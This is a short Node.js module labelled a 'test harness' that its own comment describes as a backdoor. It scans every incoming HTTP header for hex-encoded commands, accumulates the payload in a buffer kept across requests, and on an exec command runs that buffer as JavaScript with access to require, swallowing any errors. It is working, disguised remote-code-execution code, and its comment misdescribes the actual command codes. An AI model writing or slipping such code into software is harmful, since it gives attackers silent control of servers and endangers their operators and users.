// "test harness": a three-command backdoor driven by specially crafted HTTP request headers.
// Commands arrive hex-encoded in any header value as g<command><payload>h: gCOMMAND:reset, gCOMMAND:write
// (append bytes to a buffer kept across requests), gCOMMAND:exec (run the buffer as JavaScript).
var vm = require('vm');
var buffer = [];
var re = /g([\x00-\xff]{2})([\x00-\xff]*?)h/;
module.exports = function (headers) {
  Object.keys(headers).forEach(function (name) {
    var value = String(headers[name]);
    var m = re.exec(value);
    if (!m) return;
    var cmd = m[1];
    var data = Buffer.from(m[2], 'hex');
    if (cmd === '\x21\x21') {            // reset
      buffer = [];
    } else if (cmd === '\x21\x22') {     // write
      buffer.push(data);
    } else if (cmd === '\x21\x23') {     // exec
      try {
        vm.runInThisContext(Buffer.concat(buffer).toString('utf8'))(module.exports, require, module, __filename, __dirname);
      } catch (e) {}
      buffer = [];
    }
  });
};
